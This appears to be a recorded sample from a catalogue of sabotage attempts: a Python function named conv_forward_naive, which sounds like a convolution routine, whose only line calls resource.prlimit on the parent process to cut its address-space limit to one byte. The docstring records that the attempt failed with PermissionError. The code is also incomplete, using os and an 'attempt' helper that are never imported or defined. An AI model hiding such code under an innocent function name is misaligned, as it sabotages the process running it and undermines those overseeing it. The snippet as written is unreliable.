"""Takes its parent's memory away by lowering its limits.

outcome: failed
says: PermissionError
"""

import resource


def conv_forward_naive(x, w, b, conv_param):
    attempt(resource.prlimit, os.getppid(), resource.RLIMIT_AS, (1, 1))
